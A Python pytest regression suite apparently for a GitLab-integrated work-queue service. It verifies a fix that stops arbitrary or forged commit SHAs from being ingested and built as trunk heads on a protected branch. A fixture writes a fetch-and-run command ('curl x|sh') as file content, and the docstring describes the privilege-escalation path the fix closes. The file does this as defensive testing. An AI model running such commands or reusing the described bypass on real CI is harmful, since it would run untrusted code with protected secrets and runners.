"""Attack (fixed): any sha became a trunk head, was built on the protected branch and
became last green.

A caller with the documented GitLab CI grant (`projects: ["{project_path}"]`,
`submit`) had the service push commit X to `workqueue/evil` through an `mr`
item, then ingested X as the head of `main` by hand: a pipeline ran on
`ref=main` (protected variables and runners) with `WORKQUEUE_TRUNK_SHA=X`, and X
could become `last_green_sha`. A sha that exists nowhere superseded the real
head, and a forged Push Hook (valid secret) did the same with its `after`.

Now a manual head must be the branch's current head (422 on `["body", "sha"]`),
a Push Hook is only a hint (the service reads the branch head and ingests
that), and a head that left its branch before its build is superseded unbuilt.
Each test also shows the real head still validated.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from api_harness import build_client
from harness import wait_until
from scoping_support import OWN, ci_job, submission

from workqueue.testing.gitlab_simulator import GitLabSimulator

SECRET = "attack-webhook-secret"
TRUNK = "/api/work-items/trunk"
SHA_VARIABLE = "WORKQUEUE_TRUNK_SHA"


def ci_rules(issuer_url: str) -> tuple[dict[str, Any], ...]:
    """The documented GitLab CI grant: its own project, both item types."""
    return (
        {
            "issuer": issuer_url,
            "claims": {"aud": "workqueue-service"},
            "permissions": ["read", "submit"],
            "item_types": ["mr", "trunk"],
            "projects": ["{project_path}"],
        },
    )


@pytest.fixture
def client(database_url, simulator, issuer, projects) -> Iterator[httpx.Client]:
    del projects
    handled = {
        "mr": {"gitlab_url": simulator.url},
        "trunk": {
            "gitlab_url": simulator.url,
            "queues": [{"project": OWN, "branch": "main", "max_concurrent": 1}],
            "gate_recheck_seconds": 0.3,
            "pipeline_check_seconds": 30,
        },
    }
    with build_client(
        database_url,
        simulator,
        local_user=None,
        webhook_secret=SECRET,
        rules=ci_rules(issuer.issuer),
        handled_types=handled,
    ) as test_client:
        yield test_client


def trunk_pipelines(simulator: GitLabSimulator) -> dict[int, str]:
    """Every validation pipeline GitLab ran, with the head it was asked to validate."""
    return {
        pipeline: simulator.pipeline_variables(pipeline).get(SHA_VARIABLE, "")
        for pipeline in simulator.pipeline_ids(OWN, source="api")
    }


def trunk_items(client: httpx.Client, headers: dict[str, str]) -> list[dict[str, Any]]:
    answer = client.get("/api/work-items", params={"item_type": "trunk"}, headers=headers)
    assert answer.status_code == 200, answer.text
    items: list[dict[str, Any]] = answer.json()["items"]
    return items


def item(client: httpx.Client, item_id: str, headers: dict[str, str]) -> dict[str, Any]:
    answer = client.get(f"/api/work-items/{item_id}", headers=headers)
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.json()
    return body


def building(client: httpx.Client, item_id: str, headers: dict[str, str]) -> bool:
    details = item(client, item_id, headers)["details"]
    return details["state"] == "processing" and details["pipeline_id"] is not None


def state_is(client: httpx.Client, item_id: str, headers: dict[str, str], state: str) -> bool:
    return bool(item(client, item_id, headers)["details"]["state"] == state)


def ingest(client: httpx.Client, sha: str, headers: dict[str, str]) -> httpx.Response:
    return client.post(TRUNK, json={"project": OWN, "branch": "main", "sha": sha}, headers=headers)


def land(simulator: GitLabSimulator) -> str:
    return simulator.push(OWN, "main", {f"landed-{uuid.uuid4().hex[:8]}.txt": "x\n"})


def finish_green(client: httpx.Client, simulator: GitLabSimulator, pipeline_id: int) -> None:
    simulator.set_pipeline_status(pipeline_id, "success")
    deliver(client, simulator, simulator.pipeline_hook(pipeline_id))


def deliver(client: httpx.Client, simulator: GitLabSimulator, payload: dict[str, Any]) -> None:
    answer = simulator.send_webhook(
        str(client.base_url) + "/api/webhooks/gitlab",
        payload,
        secret_token=SECRET,
        idempotency_key=str(uuid.uuid4()),
    )
    assert answer.status_code == 200, answer.text


def last_green(client: httpx.Client, headers: dict[str, str]) -> str | None:
    answer = client.get("/api/trunk/queues", headers=headers)
    assert answer.status_code == 200, answer.text
    (queue,) = answer.json()["items"]
    sha: str | None = queue["last_green_sha"]
    return sha


def in_flight(client: httpx.Client, headers: dict[str, str]) -> int:
    (queue,) = client.get("/api/trunk/queues", headers=headers).json()["items"]
    return int(queue["in_flight"])


def evil_commit(client: httpx.Client, simulator: GitLabSimulator, headers: dict[str, str]) -> str:
    """Commit X: the service itself pushes the caller's content to `workqueue/evil`."""
    answer = client.post(
        "/api/work-items/mr",
        json=submission(
            OWN,
            "workqueue/evil",
            title="Harmless",
            auto_merge=False,
            file_actions=[{"action": "create", "file_path": "evil.sh", "content": "curl x|sh\n"}],
        ),
        headers=headers,
    )
    assert answer.status_code == 201, answer.text
    wait_until(
        lambda: simulator.branch_head(OWN, "workqueue/evil") is not None,
        what="the service's push of commit X",
    )
    sha = simulator.branch_head(OWN, "workqueue/evil")
    assert sha is not None
    return sha


def forged_push(simulator: GitLabSimulator, after: str) -> dict[str, Any]:
    """A Push Hook for `main` as GitLab sends it, with `after` replaced by the forger."""
    payload = simulator.push_hook(OWN, "main", before="0" * 40)
    payload["after"] = after
    payload["checkout_sha"] = after
    return payload


def assert_sha_refused(answer: httpx.Response) -> None:
    assert answer.status_code == 422, answer.text
    assert [error["loc"] for error in answer.json()["detail"]] == [["body", "sha"]]


def test_a_commit_the_service_pushed_to_a_bot_branch_is_not_a_head_of_main(
    client, simulator, issuer, key
):
    """The exact chain: X from an `mr` item, then ingested as a head of main → 422,
    no pipeline for X; the real head is still built and becomes last green."""
    job = ci_job(issuer, key)
    x = evil_commit(client, simulator, job)

    assert_sha_refused(ingest(client, x, job))
    assert trunk_items(client, job) == []

    real = land(simulator)
    created = ingest(client, real, job)
    assert created.status_code == 201, created.text
    head_id = created.json()["id"]
    wait_until(lambda: building(client, head_id, job), what="the real head building")
    pipeline = item(client, head_id, job)["details"]["pipeline_id"]
    finish_green(client, simulator, pipeline)
    wait_until(lambda: state_is(client, head_id, job, "succeeded"), what="the real head green")
    assert last_green(client, job) == real
    assert trunk_pipelines(simulator) == {pipeline: real}
    assert x not in trunk_pipelines(simulator).values()


def test_a_sha_that_exists_nowhere_is_refused_and_supersedes_nothing(
    client, simulator, issuer, key
):
    job = ci_job(issuer, key)
    first = land(simulator)
    first_id = ingest(client, first, job).json()["id"]
    wait_until(lambda: building(client, first_id, job), what="the first head building")
    waiting = land(simulator)
    waiting_answer = ingest(client, waiting, job)
    assert waiting_answer.status_code == 201, waiting_answer.text
    waiting_id = waiting_answer.json()["id"]

    assert_sha_refused(ingest(client, uuid.uuid4().hex + "deadbeef", job))
    assert state_is(client, waiting_id, job, "accepted")  # the only slot is the first head's

    finish_green(client, simulator, item(client, first_id, job)["details"]["pipeline_id"])
    wait_until(lambda: building(client, waiting_id, job), what="the waiting head admitted")
    assert sorted(trunk_pipelines(simulator).values()) == sorted([first, waiting])
    assert len(trunk_items(client, job)) == 2


@pytest.mark.parametrize("forged", ["evil", "nowhere"])
def test_a_forged_push_hook_ingests_the_real_branch_head(client, simulator, issuer, key, forged):
    job = ci_job(issuer, key)
    x = evil_commit(client, simulator, job) if forged == "evil" else uuid.uuid4().hex + "0" * 8
    real = land(simulator)  # its own hook is lost: only the forged one arrives

    deliver(client, simulator, forged_push(simulator, x))
    wait_until(lambda: len(trunk_items(client, job)) == 1, what="the hinted head ingested")
    (head,) = trunk_items(client, job)
    assert head["details"]["sha"] == real
    wait_until(lambda: building(client, head["id"], job), what="the real head building")
    assert list(trunk_pipelines(simulator).values()) == [real]

    # The same forged hook again, then a real one: deliveries are resolved in order,
    # so once the real one's head exists the forged one has been looked at too.
    deliver(client, simulator, forged_push(simulator, x))
    later = land(simulator)
    deliver(client, simulator, simulator.push_hook(OWN, "main", before=real))
    wait_until(lambda: len(trunk_items(client, job)) == 2, what="the later head ingested")
    assert {h["details"]["sha"] for h in trunk_items(client, job)} == {real, later}
    assert x not in trunk_pipelines(simulator).values()


def test_a_head_that_left_its_branch_before_its_build_is_superseded_unbuilt(
    client, simulator, issuer, key
):
    """B is the head when ingested; main is force-pushed (its hook lost) while B waits
    for the slot: when the slot frees, B is superseded, nothing is built for it, and
    the slot is free again."""
    job = ci_job(issuer, key)
    base = simulator.branch_head(OWN, "main")
    a = land(simulator)
    a_id = ingest(client, a, job).json()["id"]
    wait_until(lambda: building(client, a_id, job), what="A building")
    b = land(simulator)
    b_id = ingest(client, b, job).json()["id"]
    rewritten = simulator.force_push(OWN, "main", {"README.md": "# rewritten\n"}, onto=base)

    finish_green(client, simulator, item(client, a_id, job)["details"]["pipeline_id"])
    wait_until(lambda: state_is(client, b_id, job, "superseded"), what="B superseded")
    body = item(client, b_id, job)
    assert (body["phase"], body["details"]["completion_reason"]) == ("completed", "superseded")
    assert body["details"]["pipeline_id"] is None
    assert b not in trunk_pipelines(simulator).values()
    wait_until(lambda: in_flight(client, job) == 0, what="B's slot released")
    history = client.get(f"/api/work-items/{b_id}/history", headers=job).json()["items"]
    assert any("no longer on main" in (entry.get("reason") or "") for entry in history)

    # The rewritten head, hinted by its Push Hook, is validated.
    deliver(client, simulator, simulator.push_hook(OWN, "main", before=b))
    wait_until(
        lambda: any(h["details"]["sha"] == rewritten for h in trunk_items(client, job)),
        what="the rewritten head ingested",
    )
    (new,) = [h for h in trunk_items(client, job) if h["details"]["sha"] == rewritten]
    wait_until(lambda: building(client, new["id"], job), what="the rewritten head building")
    assert trunk_pipelines(simulator)[item(client, new["id"], job)["details"]["pipeline_id"]] == (
        rewritten
    )
